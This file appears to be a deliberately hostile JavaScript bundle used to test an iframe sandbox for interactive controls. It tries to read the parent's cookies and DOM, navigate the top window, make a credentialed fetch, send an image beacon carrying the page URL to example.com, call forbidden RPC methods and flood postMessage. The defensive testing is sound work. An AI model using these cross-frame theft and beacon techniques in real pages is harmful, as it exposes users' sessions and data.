// A bundle that misbehaves on purpose: it throws, floods the page with
// postMessage (garbage and well-formed RPC alike), calls methods it may
// not, and tries to reach the parent's cookies and DOM, the studio and the
// network. Then it reports what it could reach, with giveInput, so the
// test can check that nothing worked and the page is still fine.
function attempt(what, fn) {
  try {
    var v = fn();
    return what + ': reached ' + String(v).slice(0, 40);
  } catch (err) {
    return what + ': blocked';
  }
}

window.addEventListener('load', function () {
  var report = [];
  report.push(attempt('parent cookie', function () { return window.parent.document.cookie; }));
  report.push(attempt('parent DOM', function () { return window.top.document.body.innerHTML.length; }));
  report.push(attempt('own cookie', function () { return document.cookie; }));
  report.push(attempt('localStorage', function () { return window.localStorage.length; }));
  report.push(attempt('top navigation', function () { window.top.location.href = '/studio'; return 'navigated'; }));

  // The network: fetch to the studio, an image beacon elsewhere. The
  // report goes out once both answered and the flood below is over (the
  // host drops a flooding frame's messages, its own included).
  var pending = 3;
  function done() {
    if (--pending > 0) {
      return;
    }
    // Until the server answers: the page may still be dropping the
    // backlog of the flood when the first report arrives.
    var answered = false;
    function sendReport() {
      if (answered) {
        return;
      }
      mixer.socket
        .call('giveInput', { controlID: 'trap', event: 'report', report: report, flooded: sent })
        .then(function () { answered = true; });
      setTimeout(sendReport, 2000);
    }
    setTimeout(sendReport, 1000);
  }
  fetch('/studio', { credentials: 'include' })
    .then(function (r) { report.push('fetch studio: reached ' + r.status); })
    .catch(function () { report.push('fetch studio: blocked'); })
    .then(done);
  var img = new Image();
  img.onload = function () { report.push('image beacon: reached'); done(); };
  img.onerror = function () { report.push('image beacon: blocked'); done(); };
  img.src = 'https://example.com/beacon.png?from=' + encodeURIComponent(location.href);

  // Methods a custom control may not call, and one that needs a reply.
  mixer.socket.call('setCompression', { scheme: ['gzip'] }).catch(function (err) {
    report.push('setCompression: refused ' + err.code);
  });
  mixer.socket.call('updateControls', { sceneID: 'default', controls: [] }).catch(function (err) {
    report.push('updateControls: refused ' + err.code);
  });

  // Floods: garbage and RPC-shaped packets, for a while.
  var sent = 0;
  var flood = setInterval(function () {
    for (var i = 0; i < 250; i++) {
      window.parent.postMessage({ junk: i, big: 'x'.repeat(200) }, '*');
      window.parent.postMessage(
        { type: 'method', serviceID: '8f5b3a83-dd7b-4b8a-84ad-146948bc8d27', counter: 1e6 + sent, id: sent, method: 'log', params: { level: 'error', params: ['flood'] } },
        '*'
      );
      sent++;
    }
    if (sent >= 5000) {
      clearInterval(flood);
      done();
    }
  }, 10);

  mixer.isLoaded();
  document.getElementById('out').textContent = 'hostile bundle running';
  throw new Error('the hostile bundle throws at load');
});

// And it throws while loading, too.
undefinedFunctionOfTheHostileBundle();
